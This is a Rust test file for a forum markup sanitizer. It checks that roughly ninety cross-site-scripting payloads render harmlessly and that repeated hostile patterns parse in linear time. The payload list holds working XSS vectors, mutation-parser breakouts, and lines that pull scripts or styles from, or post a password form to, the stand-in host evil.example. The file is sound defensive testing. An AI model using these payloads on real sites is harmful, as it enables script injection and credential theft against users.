//! Texts of people who mean harm: to readers, or to the server.

#[path = "support/vocabulary.rs"]
mod vocabulary;

use std::time::{Duration, Instant};

use folkmoot_markup::{Context, Flavour, Rendered, plain_text, render};

fn rendered(source: &str, flavour: Flavour) -> Rendered {
    let base_urls = ["https://forum.example".to_owned()];
    render(source, &Context { flavour, mentions: &|_| None, base_urls: &base_urls })
}

/// Known ways to run a script, leave an element or load a file.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" />",
    "<img src='x' onerror='alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img srcset='https://evil.example/x.png 1x' src=https://evil.example/y.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"\u{0}javascript:alert(1)\">x</a>",
    "<a href='https://ex.org\" onclick=\"alert(1)'>x</a>",
    "<a href=x target=_blank style=position:fixed;inset:0 onmouseover=alert(1)>x</a>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password><button formaction=javascript:x>go</button></form>",
    "<input type=image src=//evil.example/x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video poster=//evil.example/x onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)><embed src=//evil.example/x.swf></object>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)><frameset onload=alert(1)>",
    "<table background=javascript:alert(1)><td background=x>",
    "<div id=app name=x class='post admin'>clobber</div>",
    "<a id=cookie name=cookie href=x>y</a>",
    "<button class=remote-image data-src=javascript:alert(1) onclick=alert(1)>x</button>",
    "<button class=remote-image data-src=https://x data-link=javascript:alert(1)>x</button>",
    "<button class=remote-image data-src='https://x\" onclick=\"alert(1)'>x</button>",
    "<blockquote class=quote data-post='1\" onclick=\"x' data-author='\"><script>x</script>'>x</blockquote>",
    "<aside class=quote data-username='<img src=x onerror=alert(1)>' data-post=1 data-topic='2<'><blockquote>x</blockquote></aside>",
    "<div class=lazyYT data-youtube-id='\"><script>x</script>' data-youtube-title='<script>'></div>",
    "<img class=emoji title='<script>alert(1)</script>'>",
    "<pre><code class='lang-\"><script>x</script>'>x</code></pre>",
    "<span class=mention>@<script>x</script></span>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml <script>alert(1)</script>?>",
    "</p></div></body><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<plaintext><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x]( javascript:alert(1) \"t\")",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](https://ex.org \"\\\" onmouseover=\\\"alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![\" onerror=\"alert(1)](https://ex.org/x.png)",
    "![x](https://ex.org/x.png\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "https://ex.org/\"onmouseover=alert(1)",
    "https://ex.org/<script>alert(1)</script>",
    "www.ex.org\"><script>alert(1)</script>",
    "@<script>alert(1)</script>",
    "> [@<script>](post:1):\n> x",
    "> [@a](post:1\"onclick=\"x):\n> x",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
];

#[test]
fn no_attack_leaves_the_vocabulary() {
    for attack in ATTACKS {
        for flavour in [Flavour::Markdown, Flavour::Html] {
            let html = rendered(attack, flavour).html;
            assert_eq!(vocabulary::violations(&html), Vec::<String>::new(), "{flavour:?} {attack}\n{html}");
        }
    }
}

#[test]
fn attacks_side_by_side_do_not_help_each_other() {
    for first in ATTACKS {
        for second in ATTACKS {
            let html = rendered(&format!("{first}{second}"), Flavour::Html).html;
            assert_eq!(vocabulary::violations(&html), Vec::<String>::new(), "{first}{second}\n{html}");
        }
    }
}

/// Repeated to a large text, each of these makes some parser quadratic or deep.
const PATTERNS: &[&str] = &[
    "<div>",
    "<b>",
    "<p>",
    "</p>",
    "</b>",
    "<a href=x>",
    "<font color=",
    "<table>",
    "<table><tr><td>",
    "<ul><li>",
    "<blockquote>",
    "<b><p>",
    "<p><b>x",
    "<a href='http://x/'><p>y",
    "<!--",
    "<",
    "</",
    "<!",
    "<?",
    "&",
    "&#",
    "<pre>",
    "<details>",
    "<details><summary>",
    "<code>",
    "<svg>",
    "<template>",
    "<select><option>",
    "<button>",
    "<h1>",
    "<dl><dt>",
    "<dd>",
    "<td>",
    "<img src=//x/y>",
    "<aside class=quote><div class=title>",
    "<aside class=onebox>",
    "<div class=poll>",
    "<div class=spoiler>x",
    "<video>",
    "<div class=lazyYT>",
    "<span class=mention>@x",
    "<abbr title='x'>",
    "<ol start=2>",
    "<i><b><u><s><small><sub><sup><kbd><em><strong><p>x</p>",
    "<iframe src=x>",
    "<a><img src=//x/y>",
    "<pre><li>x",
    ">",
    "> ",
    "- ",
    "* ",
    "1. ",
    "  ",
    "\t",
    "\n",
    "*",
    "**",
    "_",
    "*a ",
    "**a*",
    "_a __b ",
    "`",
    "``` ",
    "~",
    "~~a",
    "[",
    "]",
    "[]",
    "![",
    "[a](",
    "[a](b",
    "[a](<b",
    "[a][",
    "[a]: b\n",
    "<a@b.c>",
    "<http:",
    "http://",
    "https://a.b/(",
    "www.",
    "@",
    "a@",
    "@a",
    "a.b@",
    "@a@b.c",
    "\\",
    "\\@",
    "&amp;",
    "# ",
    "|",
    "|-",
    "a|b\n-|-\n",
    "\n|a|",
    "- [ ] ",
    "> - ",
    "[@a](post:1):\n> ",
    "> [@a](post:1):\n> ",
    "![a](http://b/c)",
    "[![a](http://b)](/c)",
    "<x ",
    "<![CDATA[",
    "$",
    "http://a_",
    "[a]\n",
    "*a_ ",
    "a**b",
    "``a`",
    "- a\n",
    "> a\n",
    "http://a/*",
    "\"",
    "'",
];

/// Time and memory for a large text of each. The limits are wide, for slow and busy machines: what is quadratic takes
/// minutes.
#[test]
fn large_hostile_texts_take_linear_time() {
    for pattern in PATTERNS {
        takes_linear_time(pattern, 1 << 18, Duration::from_secs(5));
    }
    for pattern in ["<div>", "<b><p>", "<p><b>x", ">", "[", "*", "`", "<", "&", "@a", "http://a_"] {
        takes_linear_time(pattern, 1 << 20, Duration::from_secs(20));
    }
}

fn takes_linear_time(pattern: &str, length: usize, limit: Duration) {
    let source = pattern.repeat(length / pattern.len());
    for flavour in [Flavour::Markdown, Flavour::Html] {
        let start = Instant::now();
        let post = rendered(&source, flavour);
        let took = start.elapsed();
        assert!(took < limit, "{flavour:?} {pattern:?} took {took:?}");
        assert!(post.html.len() < 40 * length, "{flavour:?} {pattern:?} gave {} bytes", post.html.len());
    }
    let start = Instant::now();
    let words = plain_text(&source);
    assert!(start.elapsed() < limit && words.len() <= 2 * length, "{pattern:?} as plain text");
}

/// The same, run to the end of the nesting: nothing may be deep, here or in a browser.
#[test]
fn nesting_is_cut_off() {
    for pattern in PATTERNS {
        for flavour in [Flavour::Markdown, Flavour::Html] {
            let html = rendered(&pattern.repeat(500), flavour).html;
            assert_eq!(
                vocabulary::violations(&html),
                Vec::<String>::new(),
                "{flavour:?} {pattern:?}\n{html}"
            );
        }
    }
}
